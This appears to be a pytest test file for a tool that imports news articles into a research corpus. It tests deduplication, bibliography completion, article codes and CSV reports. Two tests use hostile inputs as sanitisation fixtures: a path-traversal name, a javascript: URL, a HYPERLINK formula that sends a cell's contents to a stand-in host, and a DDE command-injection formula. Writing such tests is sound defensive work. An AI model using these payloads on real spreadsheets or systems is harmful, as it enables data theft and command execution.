"""From found articles to a corpus folder that the project reads."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from export_samples import BIBTEX, LINES, OTHER, PAGE
from hypothesis import given, settings
from hypothesis import strategies as st

from cadrage.cli import main
from cadrage.errors import InputError, MissingError
from cadrage.importing import column_map, import_files
from cadrage.read import read_corpus
from cadrage.read.imports import Item, gather, read_bibliography
from cadrage.read.imports.sigla import SIGLUM, siglum_of

LONG = " ".join(LINES) * 3


def taken(folder: Path, *paths: Path, **options) -> tuple[list[dict[str, str]], list[str]]:
    """The report of an import, and what was said."""
    said: list[str] = []
    import_files(paths, corpus=folder / "corpus", say=said.append, **options)
    report = folder / "corpus" / "import.csv"
    text = report.read_text(encoding="utf-8") if report.exists() else ""
    return list(csv.DictReader(text.splitlines())), said


def lines(path: Path, *rows: dict[str, str]) -> Path:
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return path


def test_what_is_taken_is_a_corpus(tmp_path: Path) -> None:
    path = lines(
        tmp_path / "a.jsonl",
        {"text": LONG, "title": "Un titre", "outlet": "Le Val", "published": "2020-03-03"},
        {"text": " ".join(OTHER), "outlet": "Le Val", "published": "2020-03/2020-04"},
    )
    rows, said = taken(tmp_path, path)
    corpus = read_corpus(tmp_path / "corpus")
    assert list(corpus.articles["article"]) == ["VAL20", "VAL20A"]
    assert corpus.clean["VAL20"].startswith("Un titre\n\nLe ministre")
    assert list(corpus.articles["published_latest"].astype(str)) == ["2020-03-03", "2020-04-30"]
    assert [row["outcome"] for row in rows] == ["taken", "taken"]
    assert said[0] == "taken: 2"


def test_duplicates_are_left_and_near_ones_told(tmp_path: Path) -> None:
    words = [f"mot{number}" for number in range(200)]
    near = [*words[:190], *(f"autre{number}" for number in range(10))]
    path = lines(
        tmp_path / "a.jsonl", {"text": " ".join(words)}, {"text": " ".join(words).upper() + " !"},
        {"text": " ".join(near)}, {"text": " ".join(OTHER)},
    )  # fmt: skip
    rows, _ = taken(tmp_path, path)
    assert [row["outcome"] for row in rows] == ["taken", "duplicate", "like another", "taken"]
    assert rows[1]["note"] == "word for word ART"
    assert "90% of its wording is ART's" in rows[2]["note"]


def test_a_second_import_adds_and_knows_the_first(tmp_path: Path) -> None:
    first = lines(tmp_path / "a.jsonl", {"text": LONG})
    second = lines(tmp_path / "b.jsonl", {"text": LONG}, {"text": " ".join(OTHER)})
    taken(tmp_path, first)
    rows, _ = taken(tmp_path, second)
    assert [row["outcome"] for row in rows] == ["duplicate", "taken"]
    assert list(read_corpus(tmp_path / "corpus").articles["article"]) == ["ART", "ARTA"]


def test_a_dry_run_writes_nothing(tmp_path: Path) -> None:
    path = lines(tmp_path / "a.jsonl", {"text": LONG})
    _, said = taken(tmp_path, path, dry=True)
    assert not (tmp_path / "corpus").exists()
    assert said[-1] == "nothing was written"
    assert [one.name for one in tmp_path.iterdir()] == ["a.jsonl"]


def test_a_text_that_lies_there_is_not_written_over(tmp_path: Path) -> None:
    articles = tmp_path / "corpus" / "articles"
    articles.mkdir(parents=True)
    (articles / "ART.txt").write_text("mine", encoding="utf-8")
    with pytest.raises(InputError, match=r"ART\.txt: found 'another text'"):
        taken(tmp_path, lines(tmp_path / "a.jsonl", {"text": LONG}))
    assert (articles / "ART.txt").read_text(encoding="utf-8") == "mine"
    assert not (tmp_path / "corpus" / "articles.csv").exists()


def test_attacks_become_plain_cells(tmp_path: Path) -> None:
    path = lines(
        tmp_path / "a.jsonl",
        {"text": f"{LONG}\x00\u0008 \ud800", "article": "../../etc/passwd", "outlet": "../x",
         "title": "A\nB\x1b[31m", "url": "javascript:alert(1)", "published": "2020/31"},
    )  # fmt: skip
    rows, _ = taken(tmp_path, path)
    corpus = read_corpus(tmp_path / "corpus")
    (article,) = corpus.articles.to_dict("records")
    assert article["file"] == "X.txt"
    assert article["title"] == "A B [31m"
    assert not article["address"] or article["address"] != article["address"]
    assert "\x00" not in corpus.clean["X"]
    for note in ("3 control characters", "not of the web", "is none that we can read", "no date"):
        assert note in rows[0]["note"]
    assert not list(tmp_path.glob("etc*"))


def test_no_cell_is_a_formula_and_each_comes_back(tmp_path: Path) -> None:
    title, outlet = '=HYPERLINK("http://val.example/?"&A1,"x")', "@SUM(1+1)*cmd|'/C calc'!A0"
    path = tmp_path / "=1+1.jsonl"
    lines(path, {"text": LONG, "title": title, "outlet": outlet, "published": "2020-03-03"})
    taken(tmp_path, path)
    # a second import writes the rows of the first once more
    taken(tmp_path, lines(tmp_path / "b.jsonl", {"text": " ".join(OTHER), "title": "-1"}))
    for name in ("articles.csv", "import.csv"):
        with (tmp_path / "corpus" / name).open(encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert [cell for cell in cells if cell[:1] in tuple("=+-@")] == []
    (first, second) = read_corpus(tmp_path / "corpus").articles.to_dict("records")
    assert (first["title"], first["outlet"], second["title"]) == (title, outlet, "-1")


def test_cells_that_no_page_could_hold_are_cut_off_and_told(tmp_path: Path) -> None:
    address = "https://val.example/" + "a" * 9_000
    rows, _ = taken(
        tmp_path, lines(tmp_path / "a.jsonl", {"text": LONG, "title": "T" * 9_000, "url": address})
    )
    (article,) = read_corpus(tmp_path / "corpus").articles.to_dict("records")
    assert article["title"] == "T" * 1_999 + "…"
    assert not isinstance(article["address"], str)
    assert "the title, of 9,000 characters, was cut off" in rows[0]["note"]
    assert "the address, of 9,020 characters, was left out" in rows[0]["note"]


def test_a_bibliography_completes_what_is_missing(tmp_path: Path) -> None:
    (tmp_path / "bib.bib").write_text(BIBTEX, encoding="utf-8")
    known = read_bibliography(tmp_path / "bib.bib")
    found = Item("soutien.html", "", LONG, published="2020-03-09", basis="inferred")
    whole = known.completed(found)
    assert (whole.title, whole.outlet, whole.author) == ("Un soutien Total", "Le Val", "Lo, Ana")
    assert (whole.published, whole.basis, whole.language) == ("2020-03-03", "stated", "fr")
    assert whole.repairs == ("completed from the notice 'lo2020'",)
    by_title = known.completed(Item("x", "", LONG, title="Un soutien total", outlet="Ailleurs"))
    assert (by_title.outlet, by_title.author) == ("Ailleurs", "Lo, Ana")
    other = Item("y", "", LONG, title="Autre")
    assert known.completed(other) is other


def test_a_bibliography_that_is_none_is_refused(tmp_path: Path) -> None:
    (tmp_path / "bib.bib").write_text("@article{a, title = {", encoding="utf-8")
    with pytest.raises(InputError, match="expected BibTeX"):
        read_bibliography(tmp_path / "bib.bib")
    (tmp_path / "bib.bib").write_bytes(b"@misc{a, title = {\0}}")
    with pytest.raises(InputError, match="it holds zero bytes"):
        read_bibliography(tmp_path / "bib.bib")


@pytest.mark.parametrize(
    ("item", "siglum"),
    [
        (Item("", "", "x", name="SPU21"), "SPU21"),
        (Item("", "", "x", name="spu21", outlet="Le Monde", published="2021-01-01"), "MON21"),
        (Item("", "", "x", outlet="L'Écho"), "ECH"),
        (Item("", "", "x", outlet="www.val.fr", published="2019"), "VAL19"),
        (Item("", "", "x", outlet="新聞"), "ART"),
        (Item("", "", "x", name="CON", outlet="Nul"), "NULA"),
    ],
)
def test_sigla(item: Item, siglum: str) -> None:
    assert siglum_of(item, set()) == siglum


@settings(max_examples=50)
@given(st.lists(st.tuples(st.text(max_size=8), st.text(max_size=8)), max_size=80))
def test_sigla_are_valid_and_differ(given) -> None:
    used: set[str] = set()
    for outlet, name in given:
        siglum = siglum_of(Item("", "", "x", outlet=outlet, name=name), used)
        assert SIGLUM.fullmatch(siglum)
        assert siglum not in used
        used.add(siglum)


def test_many_of_one_outlet_and_year_keep_sigla_of_their_own() -> None:
    used: set[str] = set()
    for _ in range(800):
        used.add(siglum_of(Item("", "", "x", outlet="Val", published="2020-01-01"), used))
    assert len(used) == 800
    assert {"VAL20", "VAL20A", "VAL20Z", "VAL20AA", "VAL20AB"} <= used


@pytest.mark.parametrize("given", ["text", "odd=Corps", "=x"])
def test_a_map_of_columns_that_is_none(given: str) -> None:
    with pytest.raises(InputError, match="OURS=THEIRS"):
        column_map(given)


def test_the_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.html").write_text(PAGE, encoding="utf-8")
    corpus = tmp_path / "corpus"
    assert main(["import", str(tmp_path / "a.html"), "--corpus", str(corpus)]) == 0
    assert "taken: 1" in capsys.readouterr().out
    assert main(["import", str(tmp_path / "none"), "--corpus", str(corpus)]) == 1
    assert "not found" in capsys.readouterr().err
    assert main(["import", str(tmp_path / "a.html"), "--corpus", str(corpus)]) == 1
    assert "duplicate: 1" in capsys.readouterr().out


def test_one_reason_of_a_file_is_said_once(tmp_path: Path, capsys) -> None:
    rows = "".join("x,y,zu viel\n" for _ in range(30))
    content = f"text,date\n{rows}un deux trois,2020-03-03\n"
    (tmp_path / "a.csv").write_text(content, encoding="utf-8")
    (tmp_path / "b.csv").write_text('"text,date\nx,y\n', encoding="utf-8")
    command = ["import", str(tmp_path / "a.csv"), str(tmp_path / "b.csv"), "--corpus"]
    assert main([*command, str(tmp_path / "corpus")]) == 0
    said = capsys.readouterr().out
    assert "refused: 31" in said
    assert "  a.csv row 2 and 29 more: more cells than the header has columns\n" in said
    assert "  b.csv row 1: it cannot be read: unexpected end of data\n" in said


def test_what_was_gathered_stays_out_of_the_corpus_until_it_is_written(tmp_path: Path) -> None:
    made = gather([Item("a", "", LONG)], folder=tmp_path / "corpus", stage=tmp_path)
    assert made.counts() == {"taken": 1, "like another": 0, "duplicate": 0, "refused": 0}
    assert not (tmp_path / "corpus").exists()


def test_a_text_of_white_space_is_refused(tmp_path: Path) -> None:
    (tmp_path / "stage").mkdir()
    found = [Item("a.html", "page", "Bamako se tait."), Item("b.html", "page", " \u00a0\n")]
    made = gather(found, folder=tmp_path / "corpus", stage=tmp_path / "stage")
    assert [(line.outcome, line.source) for line in made.report][1] == ("refused", "b.html")
    assert made.report[1].note == "the text is empty"


@pytest.mark.parametrize(
    ("fields", "published"),
    [
        ("year = {2021}, month = may", "2021-05"),
        ("year = {2021}, month = {12}", "2021-12"),
        ("year = {2021}", "2021"),
        ("date = {2021-05-03}, year = {1999}", "2021-05-03"),
        ("date = {2021-05-03/2021-05-07}", "2021-05-03/2021-05-07"),
        ("note = {no day}", ""),
    ],
)
def test_a_notice_is_of_the_day_month_or_year_that_it_gives(
    tmp_path: Path, fields: str, published: str
) -> None:
    path = tmp_path / "z.bib"
    path.write_text(f"@article{{a, title = {{Une paix}}, {fields}}}", encoding="utf-8")
    (notice,) = read_bibliography(path).by_title.values()
    assert notice.published == published


def test_a_bibliography_that_is_not_there_is_named(tmp_path: Path) -> None:
    with pytest.raises(MissingError, match=r"z\.bib: not found; expected a BibTeX file"):
        read_bibliography(tmp_path / "z.bib")
